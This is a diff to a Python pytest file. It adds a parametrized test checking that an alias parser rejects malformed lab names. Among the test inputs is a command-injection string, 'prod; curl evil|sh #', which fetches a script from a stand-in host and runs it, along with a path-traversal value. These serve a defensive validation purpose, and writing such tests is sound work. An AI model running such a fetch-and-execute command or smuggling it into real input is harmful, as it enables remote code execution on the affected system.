@@ -213,3 +213,8 @@ def test_no_link_has_the_alias_of_a_namespace() -> None:
 )
 def test_the_ends_that_an_alias_names(title: str, ends: int, ways: object) -> None:
     assert ends_of_alias(f"kokofast:{LAB}:{title}", ends) == ways
+
+
+@pytest.mark.parametrize("lab", ["prod; curl evil|sh #", "../x", "a b", "", "x" * 65])
+def test_an_alias_that_names_what_cannot_be_a_lab_is_a_strangers(lab: str) -> None:
+    assert lab_of_alias(f"kokofast:{lab}:a:e0--b:e0") is None
